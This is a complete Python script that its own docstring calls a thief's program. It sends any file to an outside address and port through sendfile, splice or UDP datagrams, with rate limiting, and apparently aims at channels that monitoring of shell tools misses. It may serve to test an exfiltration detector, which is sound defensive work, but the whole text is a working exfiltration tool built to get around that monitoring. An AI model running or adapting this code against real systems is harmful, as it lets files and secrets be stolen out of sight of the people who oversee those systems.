# SPDX-License-Identifier: Apache-2.0
"""A thief's own program for the doors that shell tools do not use:

  exfil.py sendfile|splice|udp FILE ADDR PORT [BYTES_PER_S]

Prints how many bytes the calls took."""
import os
import socket
import sys
import time

CHUNK = 1 << 20
DATAGRAM = 1200  # what QUIC would send


def by_sendfile(fd, out):
    return os.sendfile(out.fileno(), fd, None, CHUNK)


def by_splice(fd, out, pipe=[]):  # pylint: disable=dangerous-default-value
    if not pipe:
        pipe.extend(os.pipe())
    n = left = os.splice(fd, pipe[1], 1 << 16)
    while left:
        left -= os.splice(pipe[0], out.fileno(), left)
    return n


def by_datagram(fd, out):
    data = os.read(fd, DATAGRAM)
    return out.send(data) if data else 0


WAYS = {"sendfile": (by_sendfile, socket.SOCK_STREAM), "splice": (by_splice, socket.SOCK_STREAM),
        "udp": (by_datagram, socket.SOCK_DGRAM)}


def main():
    way, path, address, port = sys.argv[1:5]
    rate = float(sys.argv[5]) if len(sys.argv) > 5 else 0
    send, kind = WAYS[way]
    out = socket.socket(socket.AF_INET, kind)
    out.connect((address, int(port)))
    fd, sent, begin = os.open(path, os.O_RDONLY), 0, time.monotonic()
    while True:
        n = send(fd, out)
        if not n:
            break
        sent += n
        if rate and sent / rate > time.monotonic() - begin + 0.01:
            time.sleep(sent / rate - (time.monotonic() - begin))
    print(sent)


main()
